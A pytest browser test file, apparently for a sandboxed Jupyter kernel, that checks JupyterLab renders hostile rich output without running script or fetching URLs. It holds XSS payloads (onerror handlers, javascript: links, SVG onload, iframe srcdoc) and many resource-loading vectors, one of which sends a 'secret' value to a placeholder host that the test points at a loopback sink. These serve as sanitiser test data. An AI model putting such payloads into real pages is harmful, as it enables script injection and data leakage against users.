"""JupyterLab on loopback driven by Debian's Chromium (Selenium + chromedriver): open a notebook
with the `sandbox` kernel, run a cell, see its output; hostile rich output runs no script and
loads no URL. Screenshots: build/browser-lab.png, build/browser-payloads.png, build/browser-network.png."""
import time
from pathlib import Path

import nbformat
import pytest

from tests.support.browserlab import LabPage, RequestSink, chrome, jupyterlab, report_failure, skip_unless_browser

pytestmark = pytest.mark.browser

ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture(scope="module")
def sink():
    server = RequestSink()
    yield server
    server.close()


@pytest.fixture(scope="module")
def lab(tmp_path_factory, jupyter_kernels, sink):
    skip_unless_browser()
    root = tmp_path_factory.mktemp("lab")
    from sandbox_kernel.kernel.install import install

    # the admin's opt-in, to show the payloads are real: with it they do run
    install("sandbox-active", prefix=str(Path(jupyter_kernels).parents[1]),
            display_name="Sandbox (active output)", policy_argv=["--allow-active-output"])
    for name, source, kernel in (("hello", "echo hello | tr a-z A-Z", "sandbox"),
                                 ("payloads", PAYLOADS, "sandbox"),
                                 ("payloads-active", PAYLOADS, "sandbox-active")):
        nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(source)])
        nb.metadata["kernelspec"] = {"name": kernel, "display_name": "Sandbox", "language": "bash"}
        nbformat.write(nb, root / f"{name}.ipynb")
    for name, kernel in (("network", "sandbox"), ("network-active", "sandbox-active")):
        cells = [nbformat.v4.new_code_cell(cell.replace("HOST", sink.url).replace("PORT", sink.url.rsplit(":", 1)[1]))
                 for cell in NETWORK_CELLS]
        nb = nbformat.v4.new_notebook(cells=cells)
        nb.metadata["kernelspec"] = {"name": kernel, "display_name": "Sandbox", "language": "bash"}
        nbformat.write(nb, root / f"{name}.ipynb")
    with jupyterlab(root, jupyter_kernels) as server:
        yield server


#: Rich output that ran script in the browser before it was made passive (red team, item 1);
#: each would set window.__pwned. The last two lines are benign and must still render.
PAYLOADS = r"""display --html '<img src=x onerror="window.__pwned=1">'
printf 'window.__pwned = 2;\n' > evil.js; display -t application/javascript evil.js 2>/dev/null; display evil.js
display --markdown 'm <img src=y onerror="window.__pwned=3"> [click](javascript:window.__pwned=4)'
display --svg '<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned=5">
<script>window.__pwned=6</script><circle r="4"/></svg>'
display --html '<a href="javascript:window.__pwned=7" id="jslink">link</a>
<iframe srcdoc="<script>parent.__pwned=8</script>"></iframe>'
display --html '<b class="benign">bold and safe</b><table><tr><td>cell</td></tr></table>'
display --markdown '**strong markdown**'
"""


#: Rich output that made Chromium fetch a URL as soon as it rendered (third red team, item 5),
#: through every engine's display path: the shell's `display` and the JS engine's display.*.
#: Each path names its vector; each cell ends with benign math, rendered last.
NETWORK_CELLS = [
    r"""display --html "<img src='HOST/html-img?d=$(echo secret)'>"
display --html "<img src='//127.0.0.1:PORT/html-protocol-relative'><img srcset='HOST/html-srcset 1x'>
<video poster='HOST/html-poster' src='HOST/html-video'></video><input type=image src='HOST/html-input'>
<div style=\"background-image:url('HOST/html-css')\">css</div><link rel=prefetch href='HOST/html-prefetch'>
<link rel=stylesheet href='HOST/html-stylesheet'><table background='HOST/html-table'><tr><td>t</td></tr></table>
<object data='HOST/html-object'></object><a ping='HOST/html-ping' href='https://example.invalid/'>l</a>"
display --html '<p>$\style{background-image:url(HOST/html-mathjax)}{x}$</p>'
display --markdown "![a](HOST/md-img) ![b][r]

[r]: HOST/md-ref"
display --markdown '$\bbox[background:url(HOST/md-mathjax)]{x}$'
display --svg "<svg xmlns='http://www.w3.org/2000/svg' width='20' height='20'>
<image href='HOST/svg-image' width='20' height='20'/><rect width='5' height='5' fill='url(HOST/svg-fill)'/></svg>"
display --json '{"html": "<img src=HOST/json-img>", "md": "![j](HOST/json-md)"}'
display --markdown '**network payloads done** $x^2$'
""",
    r"""%%js
display.html('<img src="HOST/js-html">');
display.mime({'text/html': '<p style="background:url(HOST/js-css)">p</p>',
              'image/svg+xml': "<svg xmlns='http://www.w3.org/2000/svg'><image href='HOST/js-svg'/></svg>"});
display.markdown('![j](HOST/js-md)');
display.markdown('**js payloads done** $y^2$');
""",
]


#: Tall enough that every output is on screen, laid out and painted.
NETWORK_WINDOW = "1280,4000"


def run_network_cells(driver, url: str, token: str, notebook: str) -> None:
    """Run both network cells; return once their outputs and their benign math have rendered."""
    page = LabPage(driver, timeout=120)
    page.open(url, token, notebook)
    for index, done in enumerate(("network payloads done", "js payloads done")):
        page.run_cell(index)
        page.wait_output(done)
        page.until(page.idle)
    page.until(lambda: len(page.css(".jp-OutputArea-output mjx-container")) >= 2)
    page.until(lambda: driver.execute_script(
        "return [...document.querySelectorAll('.jp-OutputArea-output img')].every(i => i.complete)"))


def open_notebook(driver, url: str, token: str, name: str):
    """Open ``name`` and wait for its kernel to be idle; returns the WebDriverWait."""
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support import expected_conditions as ec
    from selenium.webdriver.support.ui import WebDriverWait

    driver.get(f"{url}/lab/tree/{name}?reset&token={token}")  # reset: no tabs of earlier tests
    wait = WebDriverWait(driver, 120)
    wait.until(ec.presence_of_element_located((By.CSS_SELECTOR, ".jp-Notebook .jp-Cell .cm-content")))
    wait.until(lambda d: "Sandbox" in d.find_element(By.CSS_SELECTOR, ".jp-KernelName").text)
    wait.until(lambda d: d.execute_script(
        "const s = document.querySelector('.jp-Notebook-ExecutionIndicator');"
        "return s && s.getAttribute('data-status') === 'idle';"))
    return wait


def run_payloads(driver, url: str, token: str, notebook: str):
    """Run the payload cell, click every link in its output; returns window.__pwned."""
    from selenium.webdriver.common.by import By
    from selenium.webdriver.common.keys import Keys

    wait = open_notebook(driver, url, token, notebook)
    editor = driver.find_element(By.CSS_SELECTOR, ".jp-Notebook .jp-Cell .cm-content")
    editor.click()
    editor.send_keys(Keys.SHIFT, Keys.ENTER)
    wait.until(lambda d: any("strong markdown" in e.text for e in
                             d.find_elements(By.CSS_SELECTOR, ".jp-OutputArea-output")))
    for link in driver.find_elements(By.CSS_SELECTOR, ".jp-OutputArea-output a"):
        try:
            link.click()  # a javascript: link that survived would run now
        except Exception:
            pass
    time.sleep(1)  # image errors and SVG loads fire asynchronously
    return driver.execute_script("return window.__pwned")


def test_rich_output_runs_no_script(lab):
    """display of hostile HTML/JS/Markdown/SVG runs nothing in JupyterLab; benign HTML renders."""
    from selenium.webdriver.common.by import By

    url, token = lab
    driver = chrome("1280,900")
    screenshot = ROOT / "build" / "browser-payloads.png"
    screenshot.parent.mkdir(exist_ok=True)
    try:
        pwned = run_payloads(driver, url, token, "payloads.ipynb")
        driver.save_screenshot(str(screenshot))
        assert pwned is None, f"payload {pwned} ran"
        bold = driver.find_elements(By.CSS_SELECTOR, ".jp-OutputArea-output b")
        assert any(b.text == "bold and safe" for b in bold)
        assert any(e.text == "strong markdown" for e in
                   driver.find_elements(By.CSS_SELECTOR, ".jp-OutputArea-output strong"))
        assert driver.find_elements(By.CSS_SELECTOR, ".jp-OutputArea-output td")
        text = "\n".join(e.text for e in driver.find_elements(By.CSS_SELECTOR, ".jp-OutputArea-output"))
        assert "window.__pwned = 2;" in text  # the script file is shown as its text
        assert not driver.find_elements(By.CSS_SELECTOR, ".jp-OutputArea-output iframe")
    except Exception:
        driver.save_screenshot(str(screenshot))
        raise
    finally:
        driver.quit()


def test_active_output_is_the_admins_choice(lab):
    """With the admin's --allow-active-output the same payloads do run (so the test above
    would catch a sanitiser that let them through)."""
    url, token = lab
    driver = chrome("1280,900")
    try:
        assert run_payloads(driver, url, token, "payloads-active.ipynb") is not None
    finally:
        driver.quit()


def test_run_a_cell_in_jupyterlab(lab):
    from selenium.webdriver.common.by import By
    from selenium.webdriver.common.keys import Keys

    url, token = lab
    driver = chrome("1280,900")
    screenshot = ROOT / "build" / "browser-lab.png"
    screenshot.parent.mkdir(exist_ok=True)
    try:
        wait = open_notebook(driver, url, token, "hello.ipynb")
        editor = driver.find_element(By.CSS_SELECTOR, ".jp-Notebook .jp-Cell .cm-content")
        editor.click()
        editor.send_keys(Keys.SHIFT, Keys.ENTER)
        wait.until(lambda d: any("HELLO" in e.text for e in
                                 d.find_elements(By.CSS_SELECTOR, ".jp-OutputArea-output")))
        driver.save_screenshot(str(screenshot))
        outputs = [e.text for e in driver.find_elements(By.CSS_SELECTOR, ".jp-OutputArea-output")]
        assert outputs[0].strip() == "HELLO"
    except Exception:
        driver.save_screenshot(str(screenshot))
        raise
    finally:
        driver.quit()


def test_rich_output_loads_no_url(lab, sink):
    """Every payload renders in Chromium, and the loopback server sees no request but the
    page's own canary, fetched after everything has rendered."""
    url, token = lab
    driver = chrome(NETWORK_WINDOW)
    screenshot = ROOT / "build" / "browser-network.png"
    screenshot.parent.mkdir(exist_ok=True)
    try:
        before = len(sink.paths)
        run_network_cells(driver, url, token, "network.ipynb")
        driver.save_screenshot(str(screenshot))
        driver.execute_script("fetch(arguments[0], {mode: 'no-cors'})", sink.url + "/canary")
        assert sink.wait_for(lambda paths: "/canary" in paths[before:])
        assert sink.paths[before:] == ["/canary"], " ".join(sorted(set(sink.paths[before:])))
        outputs = "\n".join(e.text for e in driver.find_elements("css selector", ".jp-OutputArea-output"))
        assert "css" in outputs and "html-img" not in outputs  # the HTML renders, without the URL
    except Exception:
        report_failure(driver, screenshot)
        raise
    finally:
        driver.quit()


def test_network_payloads_load_with_active_output(lab, sink):
    """With the admin's --allow-active-output the same cells do fetch (so the test above would
    see a sanitiser that let them through)."""
    url, token = lab
    driver = chrome(NETWORK_WINDOW)
    try:
        before = len(sink.paths)
        run_network_cells(driver, url, token, "network-active.ipynb")
        # images load as they are created; CSS images only once laid out (JupyterLab skips
        # off-screen outputs: content-visibility), so they are not required here
        expected = {"/html-img?d=secret", "/html-protocol-relative", "/md-img", "/md-ref", "/js-html", "/js-md"}
        assert sink.wait_for(lambda paths: expected <= set(paths[before:])), expected - set(sink.paths[before:])
    except Exception:
        report_failure(driver, ROOT / "build" / "browser-network-active.png")
        raise
    finally:
        driver.quit()
